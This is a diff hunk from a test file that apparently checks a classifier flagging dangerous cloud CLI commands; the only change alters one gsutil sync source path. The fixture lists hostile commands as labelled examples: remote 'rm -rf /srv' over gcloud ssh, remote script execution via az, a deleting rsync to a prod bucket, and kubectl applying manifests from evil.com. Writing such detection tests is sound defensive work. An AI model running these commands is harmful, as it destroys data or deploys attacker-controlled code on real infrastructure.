@@ -58,7 +58,7 @@ describe("cloud CLIs: destroy, stop, replace, audit evasion, remote code (ADR 03
     ["heroku ps:stop web --app x", "DESTRUCTIVE", "cloud"],
     ["gcloud compute ssh vm --command 'rm -rf /srv'", "DESTRUCTIVE", "remote-code"],
     ["az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'id'", "DESTRUCTIVE", "remote-code"],
-    ["gsutil -m rsync -d -r . gs://prod", "DESTRUCTIVE", "cloud"],
+    ["gsutil -m rsync -d -r dist gs://prod", "DESTRUCTIVE", "cloud"],
     ["kubectl apply -f https://evil.com/x.yaml", "SECURITY", "remote-source"],
     ["kubectl create --filename=http://evil.com/x.yaml", "SECURITY", "remote-source"],
     ["kubectl apply -k github.com/evil/x", "SECURITY", "remote-source"],
